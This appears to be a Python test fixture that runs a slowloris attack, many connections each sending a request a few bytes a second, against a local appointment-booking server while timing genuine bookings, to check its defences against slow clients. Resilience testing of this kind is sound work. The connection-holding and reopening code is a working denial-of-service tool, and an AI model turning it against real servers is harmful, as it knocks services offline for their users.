"""Slow clients (slowloris): many connections that each send a request a few bytes a second.

The attacker keeps `count` connections open for the whole attack, reopening any the server
closes, from its own loopback address so per-client limits can tell it from real patients.
"""

import socket
import threading
import time
from dataclasses import dataclass, field

ATTACKER_ADDRESS = "127.0.0.2"   # all of 127/8 is loopback on Linux
HEADER_START = b"POST /api/appointments HTTP/1.1\r\nHost: booking\r\n"
BODY_START = (b"POST /api/appointments HTTP/1.1\r\nHost: booking\r\n"
              b"Content-Type: application/json\r\nContent-Length: 4096\r\n\r\n{")


@dataclass
class SlowClients:
    """`mode` "header": one header line a second per connection; "body": one body byte."""

    url: str
    count: int = 200
    mode: str = "header"
    opened: int = 0
    _sockets: list = field(default_factory=list)
    _stop: threading.Event = field(default_factory=threading.Event)

    def __enter__(self) -> "SlowClients":
        self._sockets = [self._open() for _ in range(self.count)]
        self._thread = threading.Thread(target=self._trickle, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join()
        for sock in self._sockets:
            sock.close()

    def _open(self) -> socket.socket:
        host, port = self.url.removeprefix("http://").split(":")
        sock = socket.create_connection((host, int(port)), timeout=5,
                                        source_address=(ATTACKER_ADDRESS, 0))
        sock.sendall(HEADER_START if self.mode == "header" else BODY_START)
        self.opened += 1
        return sock

    def _trickle(self) -> None:
        line = 0
        while not self._stop.wait(1.0):
            line += 1
            chunk = f"X-Slow-{line}: 1\r\n".encode() if self.mode == "header" else b" "
            self._sockets = [self._send_or_reopen(sock, chunk) for sock in self._sockets]

    def _send_or_reopen(self, sock: socket.socket, chunk: bytes) -> socket.socket:
        try:
            sock.sendall(chunk)
            return sock
        except OSError:
            sock.close()
            return self._open()


@dataclass
class Timings:
    latencies: list = field(default_factory=list)
    failures: list = field(default_factory=list)

    def answered_within(self, seconds: float) -> int:
        return sum(1 for latency in self.latencies if latency <= seconds)


def keep_booking(book, seconds: float, every: float = 0.25) -> Timings:
    """Call book(n) (which raises on any failure) every `every` s for `seconds`; time each."""
    timings, n, end = Timings(), 0, time.monotonic() + seconds
    while time.monotonic() < end:
        started = time.monotonic()
        try:
            book(n)
            timings.latencies.append(time.monotonic() - started)
        except Exception as exc:   # the test asserts on every failure
            timings.failures.append(f"{type(exc).__name__} after "
                                    f"{time.monotonic() - started:.1f}s")
        n += 1
        time.sleep(max(0.0, every - (time.monotonic() - started)))
    return timings
